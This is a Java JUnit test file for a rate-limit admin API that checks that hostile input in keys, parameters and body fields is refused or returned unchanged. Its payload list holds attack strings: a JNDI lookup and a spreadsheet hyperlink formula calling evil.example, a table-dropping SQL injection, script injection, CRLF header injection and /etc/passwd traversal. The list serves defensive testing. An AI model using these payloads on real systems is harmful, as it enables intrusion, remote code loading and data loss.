package dev.weir.admin.resource;

import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.admin.AdminVisit;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.StringReader;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Texts that are not what they seem, wherever a request can have one: they are refused, or come back as they were. */
class PayloadsTest {

    private static AdminApplication application;
    /** Each has a principal of its own: one asks 20 times a second. */
    private static int callers;

    @BeforeAll
    static void start() {
        application = new AdminApplication();
    }

    @AfterAll
    static void stop() {
        application.close();
    }

    static Stream<String> payloads() {
        return Stream.of(
                "a\r\nSet-Cookie: a=b",
                "a\u0000b",
                "\u202egnp.exe",
                "\ufeff\u200b",
                "\ud800",
                "a\udc00b",
                "k".repeat(10_000),
                "\u00e4".repeat(10_000),
                "{\"policy\":\"api\",\"key\":\"eve\"}",
                "\",\"policy\":\"blocking",
                "=HYPERLINK(\"http://evil.example\")",
                "@SUM(1)|cmd",
                "<script>alert(1)</script>",
                "'; drop table weir_counters --",
                "${jndi:ldap://evil.example/a}",
                "../../etc/passwd",
                "%00%2e%2e",
                "u:alice",
                "g:",
                "sha256:",
                "l:x",
                "4:",
                "6:::/64",
                "?:x",
                "session:",
                "custom:,|\n1,2",
                "*",
                " ",
                "9".repeat(400));
    }

    private static AdminVisit operator(String path) {
        return application.operator(path).as("root" + callers++, "ratelimit-admin");
    }

    private static AdminVisit.Reply change(String method, String path, JsonObject body) {
        // all that is not ASCII is escaped: half a character has no bytes
        StringBuilder text = new StringBuilder();
        body.toString()
                .chars()
                .forEach(each -> text.append(each < 0x7f ? String.valueOf((char) each) : "\\u%04x".formatted(each)));
        return operator(path).change(method).body(text.toString()).send();
    }

    private static boolean isUnicode(String text) {
        return text.codePoints().noneMatch(each -> Character.getType(each) == Character.SURROGATE);
    }

    private static JsonObject block(String key, String reason) {
        return Json.createObjectBuilder()
                .add("policy", "api")
                .add("key", key)
                .add("reason", reason)
                .add("for", "1h")
                .build();
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void key_anyText_isRefusedOrActsOnThatKeyAlone(String payload) {
        AdminVisit.Reply made = change("POST", "/block", block(payload, "it"));
        assertThat(made.status()).as(made.body()).isIn(200, 400);
        if (!isUnicode(payload)) {
            assertThat(made.status()).isEqualTo(400);
            return;
        }
        AdminVisit.Reply one = operator("/keys/one")
                .query("policy", "api")
                .query("key", payload)
                .send();
        assertThat(one.status()).as(one.body()).isEqualTo(made.status());
        if (made.status() == 200) {
            JsonObject override = json(made).getJsonObject("override");
            assertThat(override.getString("key")).hasSizeLessThan(40);
            assertThat(json(one).getBoolean("allowed")).isFalse();
            assertThat(json(one).getJsonArray("overrides")).hasSize(1);
            AdminVisit.Reply other = operator("/keys/one")
                    .query("policy", "api")
                    .query("key", "user:somebody-else")
                    .send();
            assertThat(json(other).getBoolean("allowed")).isTrue();
            AdminVisit.Reply ended = operator("/overrides/" + override.getString("id"))
                    .change("DELETE")
                    .query("reason", payload)
                    .send();
            assertThat(ended.status()).isEqualTo(204);
        }
        assertThat(operator("/keys").query("state", "blocked").send().status()).isEqualTo(200);
        assertThat(operator("/overrides").send().status()).isEqualTo(200);
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void reason_anyText_comesBackAsItWasOrCut(String payload) {
        AdminVisit.Reply made = change("POST", "/block", block("user:alice", payload));
        assertThat(made.status()).as(made.body()).isIn(200, 400);
        if (made.status() == 200) {
            JsonObject last = json(operator("/audit").send())
                    .getJsonArray("entries")
                    .getValuesAs(JsonObject.class)
                    .get(0);
            assertThat(last.getString("action")).isEqualTo("block");
            assertThat(payload).startsWith(last.getString("reason"));
            assertThat(last.getString("reason")).isNotEmpty();
        }
    }

    /** Nothing of a request ends as an error of the server, nor is repeated in the answer's head. */
    @ParameterizedTest
    @MethodSource("payloads")
    void parameters_anyText_areAnsweredOrRefused(String payload) {
        for (List<String> each : List.of(
                List.of("/keys", "policy"),
                List.of("/keys", "state"),
                List.of("/keys", "limit"),
                List.of("/keys", "cursor"),
                List.of("/live", "after"),
                List.of("/endpoints", "sort"),
                List.of("/report", "day"),
                List.of("/report", "format"),
                List.of("/keys/one", "token"),
                List.of("/keys/one", "key"))) {
            AdminVisit.Reply reply = operator(each.get(0))
                    .query("policy", "api")
                    .query(each.get(1), payload)
                    .send();
            assertThat(reply.status()).as("%s", each).isIn(200, 400, 404, 409);
            assertThat(reply.headers().values())
                    .doesNotContain(payload)
                    .noneMatch(value -> value.contains("Set-Cookie"));
        }
        for (String path : List.of("/overrides/", "/count/", "/", "/keys/")) {
            assertThat(operator(path + payload).change("DELETE").send().status())
                    .as(path)
                    .isIn(400, 404, 405);
            assertThat(operator(path + payload).send().status()).as(path).isIn(404, 405);
        }
        for (String member : List.of("policy", "key", "token", "limit", "tier", "for", "reason")) {
            JsonObject body = Json.createObjectBuilder(block("user:bob", "it"))
                    .add("limit", "5/1h")
                    .add(member, payload)
                    .build();
            AdminVisit.Reply reply = change("PUT", "/overrides", body);
            assertThat(reply.status()).as(member).isIn(200, 400, 404);
        }
        JsonObject tenant = Json.createObjectBuilder()
                .add("tenantId", payload)
                .add("tier", "paid")
                .build();
        assertThat(change("POST", "/overrides", tenant).status()).isIn(200, 400);
    }

    @ParameterizedTest
    @CsvSource({
        "/keys, limit, -1, 400",
        "/keys, limit, 99999999999999999999, 400",
        "/keys, limit, 1e3, 400",
        "/keys, cursor, x.9223372036854775807.2147483647, 200",
        "/keys, cursor, x.9223372036854775808.1, 200",
        "/keys, cursor, ...., 200",
        "/live, after, -1, 200",
        "/live, after, 9223372036854775808, 400",
        "/live, after, 9223372036854775807, 200",
        "/report, day, +999999999-12-31, 200",
        "/report, day, -999999999-01-01, 200",
    })
    void numbers_thatAreFarAway_areInBounds(String path, String name, String value, int status) {
        AdminVisit.Reply reply = operator(path).query(name, value).send();
        assertThat(reply.status()).as(reply.body()).isEqualTo(status);
    }

    @ParameterizedTest
    @CsvSource({
        "/keys, policy",
        "/keys, limit",
        "/keys, cursor",
        "/keys, state",
        "/live, after",
        "/report, day",
        "/report, format",
        "/endpoints, sort",
        "/keys/one, policy",
        "/keys/one, key",
        "/keys/one, token"
    })
    void parameter_twice_isRefused(String path, String name) {
        AdminVisit asked = operator(path).query("policy", "api").query("key", "user:alice");
        assertThat(asked.query(name, "1", "1").send().status()).isEqualTo(400);
    }

    private static JsonObject json(AdminVisit.Reply reply) {
        assertThat(reply.status()).as(reply.body()).isEqualTo(200);
        return Json.createReader(new StringReader(reply.body())).readObject();
    }
}
